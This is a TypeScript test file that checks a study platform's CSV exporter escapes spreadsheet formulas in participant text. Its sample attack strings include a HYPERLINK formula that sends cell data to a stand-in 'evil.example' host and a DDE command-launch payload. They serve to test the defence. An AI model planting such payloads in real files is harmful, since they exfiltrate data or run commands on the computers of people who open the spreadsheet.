// The exporter's CSV files guard participants' text against spreadsheet formulas by default, as
// case-admin starts them (it never sends guardFormulas); `guardFormulas=false` gives case-backend's
// exact bytes; a bad value is a 400 that records nothing; daily export settings carry the switch.
import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { and, asc, eq } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createResponseFormatter } from "@studyflow/case-export";
import {
  dailyExportConfigs,
  reports,
  surveyResponses,
  surveyVersions,
  tasks,
  type ResponseExportInput,
} from "@studyflow/db";
import { grantPermission } from "@studyflow/domain/study-setup";
import { startWorkerBesideApi } from "@studyflow/worker/testing";
import { bearer, managementToken, researcher, setupStudy } from "./fixtures";
import { uploadSurvey } from "./survey-fixtures";
import { createTestApp, type TestApp } from "./test-app";

const STUDY = "guard-study";
const EXPORTER = `/v1/studies/${STUDY}/data-exporter`;
const ATTACKS = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3"];
const NUMBERS = ["-5", "+3.5", "1e5"];

const localised = (value: string) => [{ code: "en", parts: [{ dtype: "str", str: value }] }];
const notesSurvey = {
  props: { name: localised("Notes") },
  surveyDefinition: {
    key: "notes",
    items: [
      {
        key: "notes.Q1",
        components: {
          role: "root",
          items: [
            { role: "title", content: localised("Anything else?") },
            { role: "responseGroup", key: "rg", items: [{ role: "input", key: "txt", content: localised("Text") }] },
          ],
        },
      },
    ],
  },
};

/** A cell as Go's csv writer puts it: quoted when it holds a comma or a quote. */
const written = (cell: string) => (/[",]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell);

describe("data-exporter: the formula guard", () => {
  let t: TestApp;
  let resultDir: string;
  let worker: ReturnType<typeof startWorkerBesideApi>;
  let owner: { subject: string; token: string };

  beforeAll(async () => {
    t = await createTestApp();
    resultDir = await mkdtemp(path.join(tmpdir(), "sf-guard-api-"));
    worker = startWorkerBesideApi(t, resultDir, { batchSize: 2, chunkSize: 3 });
    await setupStudy(t, { key: STUDY });
    const admin = await managementToken(t, "root", true);
    owner = await researcher(t, STUDY, "get-responses");
    await grantPermission(t.database.db, owner.subject, STUDY, "get-reports");
    const version = await uploadSurvey(t, STUDY, admin, notesSurvey);
    await t.database.db.insert(surveyResponses).values(
      [...ATTACKS, ...NUMBERS].map((text, i) => ({
        studyKey: STUDY,
        participantId: `p${i}`,
        key: "notes",
        versionId: version,
        openedAt: 1_780_000_000 + i,
        submittedAt: 1_780_000_100 + i,
        arrivedAt: 1_780_000_200 + i,
        responses: [{ key: "notes.Q1", response: { key: "rg", items: [{ key: "txt", value: text }] } }],
        context: { language: "en", panel: text },
      })),
    );
    await t.database.db.insert(reports).values({
      studyKey: STUDY,
      participantId: "p0",
      key: "note",
      eventType: "SUBMIT",
      timestamp: 1_780_000_300,
      data: [{ key: "text", value: ATTACKS[0]! }],
    });
  });
  afterAll(async () => {
    await worker?.stop();
    await t?.close();
    await rm(resultDir, { recursive: true, force: true });
  });

  const post = (query: string) =>
    t.app.request(`${EXPORTER}/${query}`, { method: "POST", headers: bearer(owner.token) });

  /** Starts an export, waits for the worker to finish it, downloads the file. */
  async function exportFile(kind: "responses" | "reports", query: string) {
    const res = await post(`${kind}/?${query}`);
    expect(res.status).toBe(200);
    const { task } = (await res.json()) as { task: { id: string } };
    for (let i = 0; i < 200; i++) {
      const [row] = await t.database.db.select().from(tasks).where(eq(tasks.id, task.id));
      if (row?.status === "completed") break;
      if (row?.status === "failed") throw new Error(row.error ?? "failed");
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
    const file = await t.app.request(`${EXPORTER}/${kind}/task/${task.id}/result`, { headers: bearer(owner.token) });
    expect(file.status).toBe(200);
    const [row] = await t.database.db.select().from(tasks).where(eq(tasks.id, task.id));
    return { text: await file.text(), input: row!.input as ResponseExportInput };
  }

  /** The file case-backend writes for these responses (the formatter, guard off, all rows at once). */
  async function caseBytes(format: "wide" | "long", input: ResponseExportInput) {
    const versions = (await t.database.db.select().from(surveyVersions).where(eq(surveyVersions.studyKey, STUDY))).map(
      (row) => ({
        versionId: row.versionId,
        publishedAt: Math.floor(row.publishedAt.getTime() / 1000),
        unpublishedAt: null,
        definition: row.definition,
      }),
    );
    const rows = await t.database.db
      .select()
      .from(surveyResponses)
      .where(and(eq(surveyResponses.studyKey, STUDY), eq(surveyResponses.key, "notes")))
      .orderBy(asc(surveyResponses.arrivedAt), asc(surveyResponses.id));
    const formatter = createResponseFormatter("notes", versions, {
      format,
      questionOptionSep: "-",
      shortKeys: false,
      extraContextColumns: ["panel"],
      includeMeta: { position: false, initTimes: false, displayedTimes: false, responsedTimes: false },
      accountColumns: false,
      now: input.now,
    });
    return formatter.start() + formatter.format(rows, false).text + formatter.end(true);
  }

  for (const format of ["wide", "long"] as const) {
    it(`${format}: case-admin's query (no guardFormulas) gets the attacks guarded, numbers and header untouched`, async () => {
      const { text, input } = await exportFile(
        "responses",
        `surveyKey=notes&format=${format}&extraContextColumns=panel`,
      );
      expect(input.guardFormulas).toBe(true);
      const lines = text.trimEnd().split("\n");
      for (const [i, attack] of ATTACKS.entries()) {
        const row = lines.filter((line) => line.includes(`,p${i},`));
        expect(row.length).toBeGreaterThan(0);
        // the context cell and the answer cell both begin with the guard's quote
        for (const line of row) expect(line).toContain(`,${written("'" + attack)},`);
        expect(row.some((line) => line.endsWith(`,${written("'" + attack)}`))).toBe(true);
      }
      for (const number of NUMBERS) expect(lines.some((line) => line.endsWith(`,${number}`))).toBe(true);
      expect(text).not.toBe(await caseBytes(format, input));
      expect(lines[0]).toBe((await caseBytes(format, input)).split("\n")[0]);
    });

    it(`${format}: guardFormulas=false writes case-backend's exact bytes`, async () => {
      const { text, input } = await exportFile(
        "responses",
        `surveyKey=notes&format=${format}&extraContextColumns=panel&guardFormulas=false`,
      );
      expect(input.guardFormulas).toBe(false);
      expect(text).toBe(await caseBytes(format, input));
      expect(text).toContain(`,${written(ATTACKS[0]!)}\n`);
    });
  }

  it("reports: type=csv guards the data values unless guardFormulas=false", async () => {
    const guarded = await exportFile("reports", "type=csv");
    expect(guarded.text.split("\n")[1]!.endsWith(`,${written("'" + ATTACKS[0]!)}`)).toBe(true);
    const plain = await exportFile("reports", "type=csv&guardFormulas=false");
    expect(plain.text.split("\n")[1]!.endsWith(`,${written(ATTACKS[0]!)}`)).toBe(true);
  });

  it("400 naming guardFormulas for a value that is no boolean, and no task is recorded", async () => {
    const before = await t.database.db.$count(tasks);
    for (const query of ["responses/?surveyKey=notes&guardFormulas=maybe", "reports/?type=csv&guardFormulas=yes"]) {
      const res = await post(query);
      expect(res.status).toBe(400);
      const body = (await res.json()) as { error: string };
      expect(body.error).toContain("guardFormulas");
      expect(Object.keys(body)).toEqual(["error"]);
    }
    expect(await t.database.db.$count(tasks)).toBe(before);
  });

  describe("daily export settings", () => {
    const configPath = `/v1/studies/${STUDY}/daily-export-config`;
    const put = (body: unknown) =>
      t.app.request(configPath, {
        method: "PUT",
        headers: { ...bearer(owner.token), "Content-Type": "application/json" },
        body: JSON.stringify(body),
      });
    const stored = async () =>
      (await t.database.db.select().from(dailyExportConfigs).where(eq(dailyExportConfigs.studyKey, STUDY)))[0];

    it("guard on unless the body says guardFormulas: false; GET shows it; a bad value changes nothing", async () => {
      const on = await put({ surveyKeys: ["notes"] });
      expect(on.status).toBe(200);
      expect(((await on.json()) as { config: { options: { guardFormulas: boolean } } }).config.options).toMatchObject({
        guardFormulas: true,
      });
      const off = await put({ surveyKeys: ["notes"], guardFormulas: false });
      expect(off.status).toBe(200);
      expect((await stored())?.options.guardFormulas).toBe(false);
      const shown = await t.app.request(configPath, { headers: bearer(owner.token) });
      expect(
        ((await shown.json()) as { config: { options: { guardFormulas: boolean } } }).config.options,
      ).toMatchObject({ guardFormulas: false });

      const before = await stored();
      const bad = await put({ surveyKeys: ["notes"], guardFormulas: "no" });
      expect(bad.status).toBe(400);
      expect(((await bad.json()) as { error: string }).error).toContain("guardFormulas");
      expect(await stored()).toEqual(before);
    });
  });
});
